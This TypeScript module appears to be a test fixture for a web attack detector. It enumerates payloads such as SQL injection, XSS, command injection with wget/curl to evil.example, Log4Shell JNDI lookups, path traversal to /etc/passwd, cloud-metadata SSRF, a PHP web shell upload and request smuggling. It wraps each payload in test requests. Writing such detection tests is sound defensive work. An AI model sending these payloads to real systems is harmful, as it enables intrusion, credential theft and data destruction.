import type { Request } from "./judge";
import { form, get, multipart, request, sendJson, xml } from "./requests";

/** What attackers put into a value, by the class of the attack. */
const payloads: Readonly<Record<string, readonly string[]>> = {
  "SQL injection": [
    "1' OR '1'='1",
    "1 UNION SELECT username, password FROM users--",
    "'; DROP TABLE orders; --",
    "1' AND SLEEP(5)-- -",
    "1/**/UNION/**/ALL/**/SELECT/**/NULL,version()",
    "admin'--",
    "1;EXEC xp_cmdshell('dir')",
  ],
  "cross-site scripting": [
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example')>",
    "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>",
    '"><ScRiPt>alert(1)</ScRiPt>',
  ],
  "command injection": [
    "; cat /etc/passwd",
    "| wget http://evil.example/x.sh",
    "$(curl evil.example)",
    "`id`; uname -a",
    "() { :; }; /bin/bash -c id",
    "& powershell -enc SQBFAFgA",
  ],
  "reading local files": [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/proc/self/environ",
    "....//....//etc/shadow",
    "/var/www/.git/config",
  ],
  "including remote files": ["http://203.0.113.66/shell.txt?", "file:///etc/passwd", "ftp://203.0.113.66/x.php"],
  PHP: [
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
    "phar://x.phar",
  ],
  Java: [
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "#{T(java.lang.Runtime).getRuntime()}",
  ],
  "requests by the server": [
    "http://169.254.169.254/latest/meta-data/iam/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://[::ffff:169.254.169.254]/",
  ],
  JavaScript: ["require('child_process').exec('id')", "process.mainModule.require('fs')", '{"__proto__":{"admin":true}}'],
};

const escapeAll = (text: string) => [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");

/** The ways by which a value comes in. */
const ways: Readonly<Record<string, (name: string, value: string) => Request>> = {
  "in the query": (name, value) => get(name, `/items?q=${encodeURIComponent(value)}`),
  "in the query, each letter escaped": (name, value) => get(name, `/items?q=${escapeAll(value)}`),
  "in a form": (name, value) => form(name, "/items", `q=${encodeURIComponent(value)}&page=1`),
  "in JSON": (name, value) => sendJson(name, "/items", { filter: { q: [value] } }),
  "in JSON, as escapes": (name, value) =>
    request(name, "POST", "/items", {
      headers: [["Content-Type", "application/json; charset=utf-8"]],
      body: `{"q":"${value.replace(/[^]/g, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`)}"}`,
    }),
  "in XML": (name, value) => xml(name, "/items", `<order><note>${value.replace(/&/g, "&amp;").replace(/</g, "&lt;")}</note></order>`),
  "in a part of a form with files": (name, value) => multipart(name, "/items", [['name="note"', "", value]]),
};

/** Addresses of files are looked for in parameters only. */
const seen = (kind: string, way: string) => kind !== "including remote files" || way !== "in XML";

/** Attacks in values: each class, each payload, each way. */
export const inValues: readonly Request[] = Object.entries(payloads).flatMap(([kind, values]) =>
  values.flatMap((value) =>
    Object.entries(ways)
      .filter(([way]) => seen(kind, way))
      .map(([way, make]) => make(`${kind} ${way}: ${value}`, value)),
  ),
);

/** Attacks that are not in a value. */
export const elsewhere: readonly Request[] = [
  get("Log4Shell in a header", "/", ["X-Api-Version", "${jndi:ldap://evil.example/a}"]),
  get("Log4Shell in the user agent", "/", ["User-Agent", "${jndi:rmi://evil.example/a}"]),
  get("SQL injection in a cookie", "/", ["Cookie", "session=1' UNION SELECT password FROM users--"]),
  get("cross-site scripting in the referrer", "/", ["Referer", "https://x.example/<script>alert(1)</script>"]),
  get("shellshock in a header", "/", ["X-Forwarded-By", "() { :; }; /bin/cat /etc/passwd"]),
  get("a scanner that says its name", "/", ["User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)"]),
  get("another scanner", "/", ["User-Agent", "Nikto/2.5.0"]),
  get("the repository of the sources", "/.git/config"),
  get("the environment file", "/app/.env"),
  get("a backup of the database", "/backup/dump.sql"),
  get("the path out of the folder, escaped twice", "/static/%252e%252e%252f%252e%252e%252fetc/passwd"),
  get("a null byte in the path", "/download?file=report.pdf%00.exe"),
  get("a path in overlong UTF-8", "/download?file=..%c0%af..%c0%afetc/passwd"),
  request("a method that nobody asked for", "TRACE", "/"),
  request("a method that writes", "PUT", "/shell.jsp", { headers: [["Content-Type", "text/plain"]], body: "x" }),
  request("a content type that nobody reads", "POST", "/", {
    headers: [["Content-Type", "application/x-java-serialized-object"]],
    body: "x",
  }),
  request("a body encoded in a way that hides it", "POST", "/", {
    headers: [["Content-Type", "application/x-www-form-urlencoded; charset=ibm037"]],
    body: "q=1",
  }),
  form("a response split in two", "/redirect", "to=%0d%0aSet-Cookie:%20admin=1%0d%0a%0d%0a<html>"),
  form("a request smuggled behind another", "/", "q=%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20x%0d%0a"),
  multipart("a page of PHP as a picture", "/upload", [['name="file"; filename="shell.php"', "image/png", "<?php system($_GET['c']); ?>"]]),
  form("a session set by somebody else", "/login", "q=<meta http-equiv=Set-Cookie content=PHPSESSID=1>"),
  get("an internal method by a header", "/", ["X-Http-Method-Override", "DELETE"]),
];

/** What an app should not have answered. */
export const leaks: readonly Request[] = [
  request("an error of the database", "GET", "/", {
    response: {
      status: 500,
      headers: [["Content-Type", "text/html"]],
      body: Buffer.from(
        "<p>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</p>",
      ).toString("base64"),
    },
  }),
  request("the source of a page", "GET", "/", {
    response: {
      status: 200,
      headers: [["Content-Type", "text/html"]],
      body: Buffer.from("<?php $db = mysqli_connect('db'); ?>").toString("base64"),
    },
  }),
];
